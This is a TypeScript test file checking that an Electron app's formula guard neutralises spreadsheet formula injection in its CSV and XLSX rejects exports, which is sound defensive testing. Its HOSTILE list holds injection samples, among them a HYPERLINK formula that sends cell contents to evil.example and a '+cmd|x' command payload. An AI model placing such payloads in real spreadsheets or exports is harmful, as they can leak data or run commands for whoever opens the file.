/**
 * Issue 12: formula injection. Only a wholly numeric value is exempt; anything else starting with
 * = + - @, tab or CR (or their full-width forms) is neutralised, in the rejects export (CSV and XLSX,
 * full IDs, sent to departments) and every worksheet made for people.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { describe, expect, test } from 'vitest';
import { openDatabase } from '../../../../electron/backend/db/database.ts';
import { guardFormula } from '../../../../electron/backend/files/formula-guard.ts';
import { importFile } from '../../../../electron/backend/import/import-file.ts';
import { exportRejects } from '../../../../electron/backend/rejects/export-rejects.ts';
import { writeCsv } from '../../../support/csv-files.ts';
import { personId } from '../../../support/people.ts';
import { useTempDir } from '../../../support/temp-dir.ts';

const tempDir = useTempDir();
const HOSTILE = [
  '-1+HYPERLINK("http://evil.example/?"&A2&C2)',
  '=1+1',
  '+cmd|x',
  '@SUM(A1)',
  '\tx=1',
  '\rx',
  '＝HYPERLINK("x")',
  '－1+1',
  '＋1',
  '＠x',
];

describe('formula injection', () => {
  test('every hostile start is neutralised; wholly numeric values and plain text are not', () => {
    for (const v of HOSTILE) expect(guardFormula(v), JSON.stringify(v)).toBe("'" + v);
    for (const v of ['-12.5', '+86', '36.5', '1e3', '-', '张三', '2020-02-10', 'a=b']) expect(guardFormula(v)).toBe(v);
  });

  test('the rejects export, CSV and XLSX, carries no live formula', async () => {
    const dir = tempDir();
    const db = openDatabase(join(dir, 'h.db'));
    const rows = HOSTILE.map((v, i) => [personId(i + 1), '2020-02-10 08:00', v]);
    await importFile(db, {
      path: writeCsv(join(dir, 'checkins.csv'), [['person_id', 'checked_at', 'temperature'], ...rows]),
      feed: 'checkins',
      origin: 'import',
    });
    const csv = join(dir, 'rejects.csv');
    expect(await exportRejects(db, 'checkins', csv)).toBe(HOSTILE.length);
    const text = readFileSync(csv, 'utf8');
    expect(text).toContain(`"'-1+HYPERLINK(""http://evil.example/?""&A2&C2)"`);
    for (const line of text.split('\r\n').slice(1, -1)) {
      for (const cell of line.split(',')) expect(cell.replace(/^"/, ''), line).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
    }
    const xlsx = join(dir, 'rejects.xlsx');
    await exportRejects(db, 'checkins', xlsx);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(xlsx);
    const temps: string[] = [];
    wb.worksheets[0]!.eachRow((row, n) => n > 1 && temps.push(String(row.getCell(3).value)));
    // XML keeps a carriage return inside text as a line feed.
    expect(temps.sort()).toEqual(HOSTILE.map((v) => ("'" + v).replace(/\r/g, '\n')).sort());
    db.close();
  });
});
